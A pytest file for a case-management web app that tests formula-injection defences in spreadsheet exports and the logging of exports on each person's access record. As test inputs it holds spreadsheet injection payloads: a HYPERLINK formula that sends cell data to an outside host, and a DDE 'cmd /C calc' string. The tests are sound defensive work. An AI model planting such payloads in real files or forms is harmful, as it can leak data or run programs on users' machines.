"""Exports after the security review (issue 7): typed text never becomes a spreadsheet formula, and each person
whose identifying details went into a file sees that export on their own "who read this record" page."""

from __future__ import annotations

import io
import zipfile
from typing import Any

import pytest
from openpyxl import Workbook, load_workbook

from conftest import login, make_user
from karpear.core import services
from karpear.core.exports import safe_cell, text_cells
from karpear.core.models import AuditEvent, Consent, ExportJob, Person
from karpear.core.roles import Role

pytestmark = pytest.mark.django_db

FORMULAS = ['=HYPERLINK("//x.io/"&J2,"Go")', "+1+1", "-2+3", "@SUM(1,2)"]


def _person(user: Any, *, consent: bool | None = True, **fields: Any) -> Person:
    data = {"sex": "female", "birth_year": 1990, "name_latin": "Sok Dara", **fields}
    person = services.person_create(actor=user, data=services.PersonInput(**data))
    if consent is not None:
        services.consent_record(
            actor=user, person=person, purpose=Consent.Purpose.CASE_MANAGEMENT, given=consent, given_by="herself"
        )
    return person


def _export(client: Any, capture: Any, **form: str) -> tuple[ExportJob, bytes]:
    with capture(execute=True):
        assert client.post("/people/export/", form).status_code == 302
    job = ExportJob.objects.latest("created_at")
    return job, client.get(f"/jobs/{job.uuid}/download/").content


# ---------------------------------------------------------------- Medium 4: formula injection
def test_a_case_number_or_name_typed_as_a_formula_reaches_the_spreadsheet_as_text(
    orgs: dict[str, Any], client: Any, django_capture_on_commit_callbacks: Any
) -> None:
    worker = make_user(orgs["own"], Role.CASEWORKER, username="worker")
    for index, formula in enumerate(FORMULAS):
        _person(worker, case_number=formula, name_latin=formula, new_household_code=f"={index}+1")
    login(client, worker)

    _job, content = _export(client, django_capture_on_commit_callbacks)

    sheet_xml = zipfile.ZipFile(io.BytesIO(content)).read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml  # not one formula in the file
    sheet = load_workbook(io.BytesIO(content)).active
    header, *rows = list(sheet.iter_rows())
    names = [cell.value for cell in header]
    typed = [
        (row[names.index(column)].value, row[names.index(column)].data_type, row[names.index(column)].quotePrefix)
        for row in rows
        for column in ("Case number", "Household", "Name in Latin letters")
    ]
    expected_text = set(FORMULAS) | {f"={i}+1" for i in range(4)}
    assert {value for value, _type, _prefix in typed} == expected_text
    assert {(data_type, prefix) for _value, data_type, prefix in typed} == {("s", True)}


@pytest.mark.parametrize("trigger", ["=", "+", "-", "@", "\t", "\r"])
def test_each_formula_trigger_is_neutralised_in_csv_and_xlsx(trigger: str) -> None:
    value = f"{trigger}cmd|' /C calc'!A0"

    assert safe_cell(value) == "'" + value
    sheet = Workbook(write_only=True).create_sheet("t")
    [cell] = text_cells(sheet, [value])
    assert (cell.value, cell.data_type, cell.quotePrefix) == (value, "s", True)


def test_ordinary_values_are_written_as_they_are() -> None:
    sheet = Workbook(write_only=True).create_sheet("t")

    cells = text_cells(sheet, ["ALPHA-2026-00001", 1998, None, "សុខ ដារ៉ា", "bad\x01char"])

    assert [safe_cell(v) for v in ("ALPHA-2026-00001", 1998, None, "a=b")] == ["ALPHA-2026-00001", 1998, None, "a=b"]
    assert cells[1:3] == [1998, None]
    assert [(c.value, c.quotePrefix) for c in (cells[0], cells[3], cells[4])] == [
        ("ALPHA-2026-00001", False),
        ("សុខ ដារ៉ា", False),
        ("badchar", False),  # a control character XML cannot hold is dropped, not a failed export
    ]


# ---------------------------------------------------------------- Low 9: each person named in a file knows it
def test_each_person_whose_identity_went_into_a_file_sees_the_export_on_their_record(
    orgs: dict[str, Any], client: Any, django_capture_on_commit_callbacks: Any
) -> None:
    supervisor = make_user(orgs["own"], Role.CASE_SUPERVISOR, username="boss")
    named = [_person(supervisor, name_latin=f"Sok Dara {n}") for n in range(3)]
    kept_out = _person(supervisor, name_latin="Chan Thida", consent=False)
    login(client, supervisor)

    job, _content = _export(client, django_capture_on_commit_callbacks)

    events = AuditEvent.objects.filter(action="export", object_type="core.person")
    assert sorted(events.values_list("object_id", flat=True)) == sorted(str(p.uuid) for p in named)
    assert {(e.actor_id, e.organisation_id) for e in events} == {(supervisor.pk, orgs["own"].pk)}
    assert {tuple(sorted(e.details.items())) for e in events} == {
        (("consent", "given"), ("fields", "identity"), ("job", str(job.uuid)))
    }
    page = client.get(f"/people/{named[0].uuid}/access-log/").content.decode()
    assert "exported · identifying details" in page
    assert "exported" not in client.get(f"/people/{kept_out.uuid}/access-log/").content.decode()
    from karpear.core import audit

    assert audit.verify_chain()[1] is None  # the bulk insert extends the chain like single events


def test_a_person_exported_without_consent_sees_the_override_on_their_record(
    orgs: dict[str, Any], client: Any, django_capture_on_commit_callbacks: Any
) -> None:
    supervisor = make_user(orgs["own"], Role.CASE_SUPERVISOR, username="boss")
    refused = _person(supervisor, name_latin="Chan Thida", consent=False)
    login(client, supervisor)

    _export(client, django_capture_on_commit_callbacks, override="on", reason="Court order 12/2026")

    event = AuditEvent.objects.get(action="export", object_id=str(refused.uuid))
    assert event.details["consent"] == "overridden"


def test_an_export_without_identity_columns_names_nobody(
    orgs: dict[str, Any], client: Any, django_capture_on_commit_callbacks: Any
) -> None:
    officer = make_user(orgs["own"], Role.ME_OFFICER, username="me")
    _person(make_user(orgs["own"], Role.CASEWORKER, username="cw"))
    login(client, officer)

    _export(client, django_capture_on_commit_callbacks)

    assert not AuditEvent.objects.filter(action="export", object_type="core.person").exists()
